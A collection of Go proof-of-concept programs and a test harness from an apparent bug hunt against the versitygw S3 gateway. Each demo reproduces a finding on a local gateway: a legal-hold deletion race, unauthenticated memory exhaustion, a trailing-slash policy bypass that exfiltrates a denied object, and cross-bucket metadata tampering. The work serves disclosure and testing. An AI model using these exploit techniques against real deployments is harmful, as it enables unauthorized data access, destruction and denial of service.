	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const region = "us-east-1"

type cred struct{ access, secret string }

var rootCred = cred{"rootaccess", "rootsecret"}

type gateway struct {
	url string
	iam auth.IAMService
	be  backend.Backend
	dir string
}

func must(err error) {
	if err != nil {
		fmt.Println("setup error:", err)
		os.Exit(2)
	}
}

// startPosixGateway starts the real gateway (s3api.New + posix backend) on a loopback port
func startPosixGateway(prefix string, popts posix.PosixOpts, sidecar bool, sopts ...s3api.Option) *gateway {
	base, err := os.MkdirTemp("/dev/shm", prefix)
	must(err)
	rootdir := base + "/root"
	iamdir := base + "/iam"
	must(os.MkdirAll(rootdir, 0755))
	must(os.MkdirAll(iamdir, 0755))
	var ms meta.MetadataStorer = meta.XattrMeta{}
	if sidecar {
		sc := base + "/sidecar"
		must(os.MkdirAll(sc, 0755))
		s, err := meta.NewSideCar(sc)
		must(err)
		ms = s
		popts.SideCarDir = sc
	}
	if popts.VersioningDir != "" {
		popts.VersioningDir = base + "/" + popts.VersioningDir
		must(os.MkdirAll(popts.VersioningDir, 0755))
	}
	be, err := posix.New(rootdir, ms, popts)
	must(err)
	g := startGateway(be, iamdir, sopts...)
	g.dir = base
	return g
}

func startGateway(be backend.Backend, iamdir string, sopts ...s3api.Option) *gateway {
	iam, err := auth.NewInternal(auth.Account{Access: rootCred.access, Secret: rootCred.secret, Role: auth.RoleAdmin}, iamdir)
	must(err)
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	sopts = append(sopts, s3api.WithQuiet())
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootCred.access, Secret: rootCred.secret},
		":0", region, iam, nil, nil, nil, nil, sopts...)
	must(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(err)
	go app.Listener(ln)
	time.Sleep(100 * time.Millisecond)
	return &gateway{url: "http://" + ln.Addr().String(), iam: iam, be: be}
}

type resp struct {
	status int
	body   string
	hdr    http.Header
}

// do sends a SigV4 signed request; pathq is the raw (already escaped) path and query
func (g *gateway) do(c cred, method, pathq string, hdrs map[string]string, body []byte) resp {
	req, err := http.NewRequest(method, g.url+pathq, bytes.NewReader(body))
	must(err)
	for k, v := range hdrs {
		req.Header.Set(k, v)
	}
	sum := sha256.Sum256(body)
	hash := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hash)
	must(v4.NewSigner().SignHTTP(context.Background(), aws.Credentials{AccessKeyID: c.access, SecretAccessKey: c.secret},
		req, hash, "s3", region, time.Now()))
	r, err := http.DefaultClient.Do(req)
	must(err)
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return resp{r.StatusCode, string(b), r.Header}
}

func (r resp) code() string {
	if i := strings.Index(r.body, "<Code>"); i >= 0 {
		if j := strings.Index(r.body[i:], "</Code>"); j >= 0 {
			return r.body[i+6 : i+j]
		}
	}
	return ""
}

func (r resp) String() string { return fmt.Sprintf("%d %s", r.status, r.code()) }

func (g *gateway) mkuser(c cred, role auth.Role) {
	must(g.iam.CreateAccount(auth.Account{Access: c.access, Secret: c.secret, Role: role}))
}

func (g *gateway) cleanup() {
	if g.dir != "" {
		os.RemoveAll(g.dir)
	}
}

func expect(r resp, status int, what string) {
	if r.status != status {
		fmt.Printf("setup step %q: unexpected answer %v %s\n", what, r, r.body)
		os.Exit(2)
	}
}
