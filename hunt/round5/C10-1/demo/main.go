//go:build huntdemo

package main

// C10 / finding 1
//
// A noncurrent version under legal hold is deleted, by a caller without any
// bypass permission and without the bypass header, while a (perfectly legal)
// DELETE of the unprotected current version of the same key is in progress.
//
// posix.DeleteObject(versionId == current) removes the current file first and
// only afterwards copies the predecessor back into place. While the key has
// no current file, auth.CheckObjectAccess gets ErrNoSuchKey from
// GetObjectRetention (doesBucketAndObjectExist looks at the current file even
// when a version id is named) and skips the object ("continue"): the lock
// check is passed without having looked at the version at all.
//
// The schedule is made deterministic with a metadata-store wrapper that parks
// the first request inside the DeleteAttributes call that follows the
// os.Remove of the current file (posix.go, DeleteObject).

import (
	"fmt"
	"os"
	"sync"

	"github.com/versity/versitygw/backend/meta"
)

type pausingMeta struct {
	meta.MetadataStorer

	mu      sync.Mutex
	armed   bool
	bucket  string
	object  string
	reached chan struct{}
	resume  chan struct{}
}

func (p *pausingMeta) DeleteAttributes(bucket, object string) error {
	p.mu.Lock()
	hit := p.armed && bucket == p.bucket && object == p.object
	if hit {
		p.armed = false
	}
	p.mu.Unlock()
	if hit {
		close(p.reached)
		<-p.resume
	}
	return p.MetadataStorer.DeleteAttributes(bucket, object)
}

func main() {
	pm := &pausingMeta{reached: make(chan struct{}), resume: make(chan struct{})}
	g, err := startGateway(func(inner meta.MetadataStorer) meta.MetadataStorer {
		pm.MetadataStorer = inner
		return pm
	})
	must(err == nil, "start gateway: %v", err)
	defer g.cleanup()

	const bucket, key = "lockb", "doc"
	const protected = "PROTECTED-CONTENT-OF-VERSION-1"

	r := g.do("PUT", "/"+bucket, "", map[string]string{"x-amz-bucket-object-lock-enabled": "true"}, nil)
	must(r.status == 200, "create lock bucket: %d %s", r.status, r.body)

	r = g.do("PUT", "/"+bucket+"/"+key, "", nil, []byte(protected))
	must(r.status == 200, "put v1: %d %s", r.status, r.body)
	v1 := r.hdr.Get("x-amz-version-id")
	r = g.do("PUT", "/"+bucket+"/"+key, "", nil, []byte("unprotected newer content"))
	must(r.status == 200, "put v2: %d %s", r.status, r.body)
	v2 := r.hdr.Get("x-amz-version-id")
	must(v1 != "" && v2 != "" && v1 != v2, "version ids %q %q", v1, v2)

	// legal hold on the (now noncurrent) version v1
	r = g.do("PUT", "/"+bucket+"/"+key, "legal-hold&versionId="+v1, nil,
		[]byte(`<LegalHold xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Status>ON</Status></LegalHold>`))
	must(r.status == 200, "put legal hold on v1: %d %s", r.status, r.body)
	r = g.do("GET", "/"+bucket+"/"+key, "legal-hold&versionId="+v1, nil, nil)
	must(r.status == 200 && string(r.body) != "" && contains(r.body, "<Status>ON</Status>"), "get legal hold: %d %s", r.status, r.body)

	// sanity: the hold is honoured when nothing else is going on
	r = g.do("DELETE", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	must(r.status != 204 && r.status != 200, "quiescent DELETE of the held version was accepted: %d", r.status)
	fmt.Printf("quiescent: DELETE %s?versionId=v1 -> %d %s (hold honoured)\n", key, r.status, r.code())
	r = g.do("GET", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	must(r.status == 200 && string(r.body) == protected, "get v1: %d %s", r.status, r.body)

	// T1: DELETE of the current, unprotected version v2. Parked right after
	// the current file has been removed and before v1 is promoted.
	pm.mu.Lock()
	pm.armed, pm.bucket, pm.object = true, bucket, key
	pm.mu.Unlock()
	t1 := make(chan resp, 1)
	go func() { t1 <- g.do("DELETE", "/"+bucket+"/"+key, "versionId="+v2, nil, nil) }()
	<-pm.reached

	// T2: DELETE of the version under legal hold, no bypass header, no
	// bypass policy on the bucket.
	rGetMid := g.do("GET", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	r2 := g.do("DELETE", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	fmt.Printf("during T1: GET %s?versionId=v1 -> %d %s\n", key, rGetMid.status, rGetMid.code())
	fmt.Printf("during T1: DELETE %s?versionId=v1 (no bypass) -> %d %s\n", key, r2.status, r2.code())

	close(pm.resume)
	r1 := <-t1
	fmt.Printf("T1: DELETE %s?versionId=v2 -> %d %s\n", key, r1.status, r1.code())

	// observation: the version under legal hold must still be retrievable
	rv := g.do("GET", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	rk := g.do("GET", "/"+bucket+"/"+key, "", nil, nil)
	rl := g.do("GET", "/"+bucket, "versions", nil, nil)
	fmt.Printf("after: GET %s?versionId=v1 -> %d %s; GET %s -> %d %s; versions listing mentions v1: %v\n",
		key, rv.status, rv.code(), key, rk.status, rk.code(), contains(rl.body, v1))

	if rv.status == 200 && string(rv.body) == protected {
		fmt.Println("OK: the version under legal hold survived")
		g.cleanup()
		os.Exit(0)
	}
	fmt.Printf("VIOLATION: version %s of %s/%s is under legal hold, yet DELETE ?versionId=%s without bypass answered %d while the DELETE of the current version was in flight, and the protected data is gone (GET by version id -> %d %s)\n",
		v1, bucket, key, v1, r2.status, rv.status, rv.code())
	g.cleanup()
	os.Exit(1)
}

func contains(b []byte, s string) bool {
	return len(s) > 0 && len(b) >= len(s) && (string(b) == s || indexOf(string(b), s) >= 0)
}

func indexOf(h, n string) int {
	for i := 0; i+len(n) <= len(h); i++ {
		if h[i:i+len(n)] == n {
			return i
		}
	}
	return -1
}
