//go:build huntdemo

// C20 finding 3: every request that is not an object upload has its whole
// body read into memory by the authentication middleware (to hash it)
// BEFORE the signature is checked, and nothing bounds that body: the
// gateway is configured with StreamRequestBody, under which the http
// server's body limit does not apply.
package main

import (
	"fmt"
	"net"
	"os"
	"runtime"
	"sync/atomic"
	"time"
)

const bodyLen = 256 << 20 // bytes the unauthenticated client sends

func heapInUse() int64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return int64(m.HeapInuse)
}

func main() {
	g := startGW()
	defer os.RemoveAll(g.base)

	r := g.roundTrip(g.signedHead("PUT", "/bkt", "", emptySHA, rootSecret, nil, map[string]string{"Content-Length": "0"}), 5*time.Second)
	if r.err != nil || r.status != 200 {
		fmt.Println("setup failed:", r.status, r.body, r.err)
		os.Exit(2)
	}

	runtime.GC()
	before := heapInUse()
	var peak atomic.Int64
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
				if h := heapInUse() - before; h > peak.Load() {
					peak.Store(h)
				}
			}
		}
	}()

	// DeleteObjects (POST /bkt?delete) signed with a WRONG secret. Any
	// other non-upload request (tagging, acl, policy, versioning, complete
	// multipart upload, the admin requests, ...) behaves the same.
	head := g.signedHead("POST", "/bkt", "delete", "UNSIGNED-PAYLOAD", "not-the-secret", nil,
		map[string]string{"Content-Length": fmt.Sprint(bodyLen)})
	c, err := net.Dial("tcp", g.addr)
	if err != nil {
		panic(err)
	}
	defer c.Close()
	c.Write(head)
	chunk := make([]byte, 1<<20)
	for i := range chunk {
		chunk[i] = 'A'
	}
	// all but the last byte: the gateway now sits on the body for as long
	// as the client wishes
	for sent := 0; sent < bodyLen-1; {
		n := len(chunk)
		if bodyLen-1-sent < n {
			n = bodyLen - 1 - sent
		}
		if _, err := c.Write(chunk[:n]); err != nil {
			fmt.Println("write failed (the gateway refused the body):", err)
			break
		}
		sent += n
	}
	time.Sleep(1500 * time.Millisecond)
	runtime.GC()
	held := heapInUse() - before
	alive := g.healthy()

	c.Write([]byte("A"))
	rs := readResp(c, 20*time.Second)
	close(stop)

	fmt.Printf("body sent=%d MiB | gateway heap growth while the request was pending: %d MiB (after GC; peak %d MiB) | final answer: %d %s | gateway alive=%v\n",
		bodyLen>>20, held>>20, peak.Load()>>20, rs.status, code(rs.body), alive)

	if held >= bodyLen*9/10 && rs.status == 403 {
		fmt.Printf("VIOLATION: a request with an invalid signature (answered %d %s in the end) made the gateway buffer its complete %d MiB body in memory (%d MiB of live heap) before authentication; there is no upper bound\n",
			rs.status, code(rs.body), bodyLen>>20, held>>20)
		os.Exit(1)
	}
	fmt.Println("OK: the body of an unauthenticated request is not buffered without bound")
}
