//go:build huntdemo

// C19 hunt 3: a DELETE (single or batch) that names a key which does not
// exist removes nothing, yet an s3:ObjectRemoved notification is sent for that
// key: the notification stream reports removals that were never committed.
package main

import (
	"fmt"
	"os"
	"regexp"
	"sort"
	"strings"
)

func main() {
	g := startGW(gwOpts{})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	must := func(r resp, want int, what string) resp {
		if r.Status != want {
			fmt.Printf("setup: %s: status %d, want %d: %s\n", what, r.Status, want, r.Body)
			g.cleanup()
			os.Exit(2)
		}
		return r
	}
	keysRe := regexp.MustCompile(`<Key>([^<]*)</Key>`)
	listing := func() string {
		r := must(g.do("GET", "/bkt", "", nil, nil), 200, "list")
		var keys []string
		for _, m := range keysRe.FindAllStringSubmatch(r.Body, -1) {
			keys = append(keys, m[1])
		}
		return "[" + strings.Join(keys, " ") + "]"
	}

	must(g.do("PUT", "/bkt", "", nil, nil), 200, "create bucket")
	must(g.do("PUT", "/bkt/report", "", nil, []byte("data")), 200, "put report")
	g.col.take()
	before := listing()
	fmt.Println("bucket content before:", before)

	spurious := 0
	check := func(req string) {
		evs := g.col.take()
		sort.Slice(evs, func(i, j int) bool { return evs[i].Key < evs[j].Key })
		fmt.Printf("%s\n   bucket content after: %s; notifications: %d (a request that removed nothing must send none)\n", req, listing(), len(evs))
		for _, e := range evs {
			spurious++
			fmt.Printf("   SPURIOUS %s bucket=%q key=%q\n", e.Name, e.Bucket, e.Key)
		}
	}

	must(g.do("DELETE", "/bkt/ghost", "", nil, nil), 204, "delete ghost")
	check("DELETE /bkt/ghost (never existed) -> 204")

	must(g.do("DELETE", "/bkt/report/", "", nil, nil), 204, "delete report/")
	check("DELETE /bkt/report/ (no such directory object; the file object 'report' is left alone) -> 204")

	r := must(g.do("POST", "/bkt", "delete", nil,
		[]byte(`<Delete><Object><Key>ghost-1</Key></Object><Object><Key>no/such/ghost-2</Key></Object></Delete>`)), 200, "batch delete")
	check(fmt.Sprintf("POST /bkt?delete (ghost-1, no/such/ghost-2: never existed) -> 200 with %d <Deleted>", strings.Count(r.Body, "<Deleted>")))

	after := listing()
	if after != before {
		fmt.Println("setup: bucket content changed unexpectedly:", after)
		return 2
	}
	if spurious > 0 {
		fmt.Printf("VIOLATION: %d s3:ObjectRemoved notifications were sent although no object was removed (bucket content unchanged: %s)\n", spurious, after)
		return 1
	}
	fmt.Println("OK: deletes that removed nothing sent no notification")
	return 0
}
