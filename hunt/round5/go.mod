module hunt5

go 1.23
