//go:build huntdemo

// Property C03: the access decision is taken on the exact resource the
// operation touches.
//
// A key with a trailing slash ("secret.txt/") is authorised as spelled, but
// posix UploadPartCopy and the tagging / legal-hold / retention handlers
// resolve it with filepath.Join, which drops the slash: they read and change
// the FILE object "secret.txt". A Deny on arn:aws:s3:::bkt/secret.txt (or the
// absence of an Allow for it) is bypassed: the denied object's content is
// copied out and its tags are destroyed.
package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/posix"
)

const secret = "TOP-SECRET-CONTENT"

func between(s, a, b string) string {
	i := strings.Index(s, a)
	if i < 0 {
		return ""
	}
	s = s[i+len(a):]
	j := strings.Index(s, b)
	if j < 0 {
		return ""
	}
	return s[:j]
}

func main() {
	g := startPosixGateway("c03hunt1-", posix.PosixOpts{}, false)
	owner := cred{"owner", "ownersecret"}
	user := cred{"user1", "user1secret"}
	g.mkuser(owner, auth.RoleUserPlus)
	g.mkuser(user, auth.RoleUser)

	expect(g.do(owner, "PUT", "/bkt", nil, nil), 200, "create bucket")
	expect(g.do(owner, "PUT", "/bkt/secret.txt", nil, []byte(secret)), 200, "put secret.txt")
	expect(g.do(owner, "PUT", "/bkt/secret.txt?tagging", nil,
		[]byte(`<Tagging><TagSet><Tag><Key>class</Key><Value>restricted</Value></Tag></TagSet></Tagging>`)), 200, "tag secret.txt")
	// user1 may do everything in the bucket except touch secret.txt
	pol := `{"Statement":[
	 {"Effect":"Allow","Principal":"owner","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},
	 {"Effect":"Allow","Principal":"user1","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},
	 {"Effect":"Deny","Principal":"user1","Action":"s3:*","Resource":"arn:aws:s3:::bkt/secret.txt"}]}`
	expect(g.do(owner, "PUT", "/bkt?policy", nil, []byte(pol)), 200, "put policy")

	// controls: the Deny works for the key as the owner spells it
	expect(g.do(user, "GET", "/bkt/secret.txt", nil, nil), 403, "control GET secret.txt")
	expect(g.do(user, "GET", "/bkt/secret.txt?tagging", nil, nil), 403, "control GET secret.txt?tagging")
	expect(g.do(user, "DELETE", "/bkt/secret.txt?tagging", nil, nil), 403, "control DELETE secret.txt?tagging")

	r := g.do(user, "POST", "/bkt/mine?uploads", nil, nil)
	expect(r, 200, "create multipart upload on user1's own key")
	uploadID := between(r.body, "<UploadId>", "</UploadId>")
	expect(g.do(user, "PUT", "/bkt/mine?partNumber=1&uploadId="+uploadID,
		map[string]string{"x-amz-copy-source": "bkt/secret.txt"}, nil), 403, "control UploadPartCopy from bkt/secret.txt")

	var violations []string

	// 1. read the denied object: copy source spelled with a trailing slash
	r = g.do(user, "PUT", "/bkt/mine?partNumber=1&uploadId="+uploadID,
		map[string]string{"x-amz-copy-source": "bkt/secret.txt/"}, nil)
	fmt.Printf("user1 UploadPartCopy x-amz-copy-source: bkt/secret.txt/  -> %v\n", r)
	if r.status == 200 {
		etag := between(r.body, "<ETag>", "</ETag>")
		c := g.do(user, "POST", "/bkt/mine?uploadId="+uploadID, nil,
			[]byte(`<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>`+etag+`</ETag></Part></CompleteMultipartUpload>`))
		fmt.Printf("user1 CompleteMultipartUpload bkt/mine -> %v\n", c)
		got := g.do(user, "GET", "/bkt/mine", nil, nil)
		fmt.Printf("user1 GET bkt/mine -> %d %q\n", got.status, got.body)
		if got.status == 200 && got.body == secret {
			violations = append(violations, "content of the denied object bkt/secret.txt was read through UploadPartCopy from 'bkt/secret.txt/'")
		}
	}

	// 2. read and destroy the denied object's tags
	r = g.do(user, "GET", "/bkt/secret.txt/?tagging", nil, nil)
	fmt.Printf("user1 GET /bkt/secret.txt/?tagging -> %v %s\n", r, between(r.body, "<TagSet>", "</TagSet>"))
	if r.status == 200 && strings.Contains(r.body, "restricted") {
		violations = append(violations, "tags of bkt/secret.txt were disclosed through GET /bkt/secret.txt/?tagging")
	}
	r = g.do(user, "DELETE", "/bkt/secret.txt/?tagging", nil, nil)
	fmt.Printf("user1 DELETE /bkt/secret.txt/?tagging -> %v\n", r)
	o := g.do(owner, "GET", "/bkt/secret.txt?tagging", nil, nil)
	fmt.Printf("owner GET /bkt/secret.txt?tagging -> %v\n", o)
	if !(o.status == 200 && strings.Contains(o.body, "restricted")) {
		violations = append(violations, "tags of bkt/secret.txt were deleted through DELETE /bkt/secret.txt/?tagging")
	}

	g.cleanup()
	if len(violations) > 0 {
		fmt.Println("VIOLATION: Deny on arn:aws:s3:::bkt/secret.txt bypassed with the key 'secret.txt/': " + strings.Join(violations, "; "))
		os.Exit(1)
	}
	fmt.Println("OK: every request naming secret.txt/ was refused or did not reach the object secret.txt")
}
