//go:build huntdemo

// C01 finding 1: the COMPOSITE checksum of a completed multipart upload is
// stored and reported without the "-<number of parts>" suffix. A checksum
// value without that suffix is, for every S3 client, the checksum of the
// bytes GET returns: it does not agree with them, and an AWS SDK GetObject
// with checksum validation fails on an object whose upload was acknowledged.
package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"regexp"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

func crc32b64(b []byte) string {
	var raw [4]byte
	binary.BigEndian.PutUint32(raw[:], crc32.ChecksumIEEE(b))
	return base64.StdEncoding.EncodeToString(raw[:])
}

func main() { os.Exit(run()) }

func run() int {
	base := mkBase("f1")
	defer os.RemoveAll(base)
	g := startGW(base, cfg{})

	if r := g.do("PUT", "/bkt", nil, nil); r.status != 200 {
		fmt.Println("setup: create bucket:", r.status, string(r.body))
		return 2
	}

	parts := [][]byte{bytes.Repeat([]byte("a"), 5*1024*1024), []byte("the last part")}
	whole := append(append([]byte{}, parts[0]...), parts[1]...)

	// multipart upload with CRC32 checksums (checksum type COMPOSITE, the
	// default for CRC32 and what the AWS SDK upload manager does)
	r := g.do("POST", "/bkt/obj?uploads", map[string]string{"x-amz-checksum-algorithm": "CRC32"}, nil)
	m := regexp.MustCompile(`<UploadId>([^<]*)</UploadId>`).FindSubmatch(r.body)
	if r.status != 200 || m == nil {
		fmt.Println("setup: create multipart upload:", r.status, string(r.body))
		return 2
	}
	uploadID := string(m[1])

	var xml bytes.Buffer
	var rawSums []byte
	xml.WriteString("<CompleteMultipartUpload>")
	for i, p := range parts {
		sum := crc32b64(p)
		pr := g.do("PUT", fmt.Sprintf("/bkt/obj?partNumber=%d&uploadId=%s", i+1, uploadID),
			map[string]string{"x-amz-checksum-crc32": sum}, p)
		if pr.status != 200 {
			fmt.Println("setup: upload part:", pr.status, string(pr.body))
			return 2
		}
		fmt.Fprintf(&xml, "<Part><PartNumber>%d</PartNumber><ETag>%s</ETag><ChecksumCRC32>%s</ChecksumCRC32></Part>",
			i+1, pr.hdr.Get("ETag"), sum)
		raw, _ := base64.StdEncoding.DecodeString(sum)
		rawSums = append(rawSums, raw...)
	}
	xml.WriteString("</CompleteMultipartUpload>")
	cr := g.do("POST", "/bkt/obj?uploadId="+uploadID, nil, xml.Bytes())
	if cr.status != 200 {
		fmt.Println("setup: complete multipart upload:", cr.status, string(cr.body))
		return 2
	}
	fmt.Printf("CompleteMultipartUpload: 200 %s\n",
		regexp.MustCompile(`<ChecksumCRC32>[^<]*</ChecksumCRC32><ChecksumType>[^<]*</ChecksumType>`).Find(cr.body))

	// what S3 reports for this object: checksum of the part checksums, "-2"
	wantComposite := crc32b64(rawSums) + fmt.Sprintf("-%d", len(parts))

	gr := g.do("GET", "/bkt/obj", map[string]string{"x-amz-checksum-mode": "ENABLED"}, nil)
	if gr.status != 200 || !bytes.Equal(gr.body, whole) {
		fmt.Println("GET does not return the uploaded bytes:", gr.status, len(gr.body))
		return 1
	}
	got := gr.hdr.Get("x-amz-checksum-crc32")
	fmt.Printf("GET: 200, %d bytes, x-amz-checksum-crc32=%q x-amz-checksum-type=%q; CRC32 of the returned bytes=%q; composite value S3 reports=%q\n",
		len(gr.body), got, gr.hdr.Get("x-amz-checksum-type"), crc32b64(gr.body), wantComposite)

	// a stock client reading the acknowledged object with checksum validation
	out, err := g.cl.GetObject(context.Background(), &s3.GetObjectInput{
		Bucket: aws.String("bkt"), Key: aws.String("obj"), ChecksumMode: types.ChecksumModeEnabled})
	var sdkErr error
	if err != nil {
		sdkErr = err
	} else {
		_, sdkErr = io.ReadAll(out.Body)
		out.Body.Close()
	}
	fmt.Printf("AWS SDK GetObject(ChecksumMode=ENABLED) read error: %v\n", sdkErr)

	if got != wantComposite || sdkErr != nil {
		fmt.Printf("VIOLATION: the checksum reported for the completed multipart object (%q) is neither the checksum of the bytes GET returns (%q) nor marked as a composite of 2 parts (%q); a validating SDK download of the acknowledged object fails\n",
			got, crc32b64(gr.body), wantComposite)
		return 1
	}
	fmt.Println("ok: the composite checksum carries its part count and validating clients can read the object")
	return 0
}
