//go:build huntdemo

// Finding 3 (C04): sidecar metadata store together with a versioning
// directory. The attributes of a preserved object version are stored under
// <sidecar>/<absolute path of the versioning directory>/<bucket>/<hash>/<versionId>/meta,
// i.e. inside the attribute name space of the bucket that is named like the
// first element of that absolute path ("dev" for /dev/shm/..., "mnt", "srv",
// "var", "data", "home", ... in deployments). A key of that bucket that spells
// the rest of the path addresses the attributes of another bucket's version.
package main

import (
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

func step(tag string, r resp) resp {
	fmt.Printf("%-46s -> %d %s", tag, r.code, short(r.body))
	if r.hdr.Get("Etag") != "" || r.hdr.Get("X-Amz-Meta-Owner") != "" {
		fmt.Printf(" [etag=%s x-amz-meta-owner=%q content-type=%q]", r.hdr.Get("Etag"), r.hdr.Get("X-Amz-Meta-Owner"), r.hdr.Get("Content-Type"))
	}
	fmt.Println()
	return r
}

func main() {
	g := startGW(gwOpts{versioning: true, sidecar: true})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	// mallory may create buckets of her own; she has no rights on "victim"
	mallory := g.mkuser("mallory", "mallorysecret", "userplus")

	step("root    PUT /victim", g.do(rootCred, "PUT", "/victim", nil, nil))
	step("root    PUT /victim?versioning Enabled", g.do(rootCred, "PUT", "/victim?versioning", []byte(`<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>`), nil))
	r1 := step("root    PUT /victim/doc (v1)", g.do(rootCred, "PUT", "/victim/doc", []byte("version one"),
		map[string]string{"x-amz-meta-owner": "victim", "Content-Type": "text/plain", "x-amz-tagging": "class=secret"}))
	v1 := r1.hdr.Get("X-Amz-Version-Id")
	step("root    PUT /victim/doc (v2)", g.do(rootCred, "PUT", "/victim/doc", []byte("version two"), nil))
	if v1 == "" {
		fmt.Println("SETUP: no version id")
		return 2
	}
	before := step("root    HEAD /victim/doc?versionId=v1", g.do(rootCred, "HEAD", "/victim/doc?versionId="+v1, nil, nil))
	if before.hdr.Get("X-Amz-Meta-Owner") != "victim" {
		fmt.Println("SETUP: version metadata not stored")
		return 2
	}
	if r := step("mallory HEAD /victim/doc?versionId=v1", g.do(mallory, "HEAD", "/victim/doc?versionId="+v1, nil, nil)); r.code != 403 {
		fmt.Println("SETUP: mallory must have no access to the victim bucket")
		return 2
	}

	// the bucket name and key that spell the version's path below the
	// versioning directory
	els := strings.Split(strings.TrimPrefix(g.ver, "/"), "/")
	bkt := els[0]
	sum := fmt.Sprintf("%x", sha256.Sum256([]byte("doc")))
	key := filepath.Join(filepath.Join(els[1:]...), "victim", sum[:2], sum[2:4], sum[4:6], sum, v1)
	fmt.Printf("versioning directory %s\nmallory's bucket %q, key %q\n", g.ver, bkt, key)

	if r := step("mallory PUT /"+bkt+" (her own bucket)", g.do(mallory, "PUT", "/"+bkt, nil, nil)); r.code != 200 {
		fmt.Println("SETUP: bucket creation refused")
		return 2
	}
	var bad []string
	// read: make <key> an (implicit) directory of her bucket, then ask for
	// the directory object's metadata
	step("mallory PUT /"+bkt+"/<key>/zz", g.do(mallory, "PUT", "/"+bkt+"/"+key+"/zz", []byte("z"), nil))
	r := step("mallory HEAD /"+bkt+"/<key>/", g.do(mallory, "HEAD", "/"+bkt+"/"+key+"/", nil, nil))
	if r.hdr.Get("X-Amz-Meta-Owner") == "victim" {
		bad = append(bad, "HEAD of her key returned ETag, content type and user metadata of victim/doc version "+v1)
	}
	r = step("mallory GET /"+bkt+"/<key>/?tagging", g.do(mallory, "GET", "/"+bkt+"/"+key+"/?tagging", nil, nil))
	if strings.Contains(r.body, "secret") {
		bad = append(bad, "GetObjectTagging of her key returned that version's tags")
	}
	// write: put the directory object with attributes of her choice
	step("mallory PUT /"+bkt+"/<key>/ (x-amz-meta-owner: mallory)", g.do(mallory, "PUT", "/"+bkt+"/"+key+"/", nil,
		map[string]string{"x-amz-meta-owner": "mallory", "Content-Type": "text/evil"}))
	after := step("root    HEAD /victim/doc?versionId=v1", g.do(rootCred, "HEAD", "/victim/doc?versionId="+v1, nil, nil))
	if after.hdr.Get("X-Amz-Meta-Owner") != "victim" || after.hdr.Get("Etag") != before.hdr.Get("Etag") {
		bad = append(bad, fmt.Sprintf("PUT of her key rewrote the version's attributes (owner %q -> %q, ETag %s -> %s)",
			before.hdr.Get("X-Amz-Meta-Owner"), after.hdr.Get("X-Amz-Meta-Owner"), before.hdr.Get("Etag"), after.hdr.Get("Etag")))
	}
	// delete: removing her key removes the version's attributes
	step("mallory DELETE /"+bkt+"/<key>/zz", g.do(mallory, "DELETE", "/"+bkt+"/"+key+"/zz", nil, nil))
	step("mallory DELETE /"+bkt+"/<key>/", g.do(mallory, "DELETE", "/"+bkt+"/"+key+"/", nil, nil))
	gone := step("root    HEAD /victim/doc?versionId=v1", g.do(rootCred, "HEAD", "/victim/doc?versionId="+v1, nil, nil))
	if gone.hdr.Get("Etag") == "" && gone.hdr.Get("X-Amz-Meta-Owner") == "" {
		bad = append(bad, "DELETE of her key removed all attributes of the version (no ETag, no metadata left)")
	}
	if len(bad) == 0 {
		fmt.Println("OK: requests on mallory's bucket do not reach the attributes of another bucket's versions")
		return 0
	}
	fmt.Println("VIOLATION: requests that name bucket '" + bkt + "' (mallory's own) read and changed stored attributes of bucket 'victim', on which she has no rights: " + strings.Join(bad, "; "))
	return 1
}
