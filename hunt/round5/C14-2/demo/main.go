//go:build huntdemo

package main

import (
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/versity/versitygw/auth"
)

func main() {
	g := startGateway()
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

// bucket-level actions of the gateway (apply to the bucket resource)
var bucketActions = []string{
	"s3:GetBucketAcl", "s3:PutBucketAcl", "s3:DeleteBucket", "s3:PutBucketVersioning", "s3:GetBucketVersioning",
	"s3:PutBucketPolicy", "s3:GetBucketPolicy", "s3:DeleteBucketPolicy", "s3:ListBucketMultipartUploads",
	"s3:GetBucketTagging", "s3:PutBucketTagging", "s3:ListBucketVersions", "s3:ListBucket",
	"s3:PutBucketOwnershipControls", "s3:GetBucketOwnershipControls", "s3:PutBucketCORS", "s3:GetBucketCORS",
}

func run(g *gateway) int {
	must(g.iam.CreateAccount(auth.Account{Access: "alice", Secret: "alicesecret", Role: auth.RoleUser}))
	root := func(m, p, q string, b []byte) (int, string) { return g.do(rootAccess, rootSecret, m, p, q, b, nil) }
	alice := func(m, p, q string, b []byte) (int, string) { return g.do("alice", "alicesecret", m, p, q, b, nil) }
	if st, b := root("PUT", "/bkt", "", nil); st != 200 {
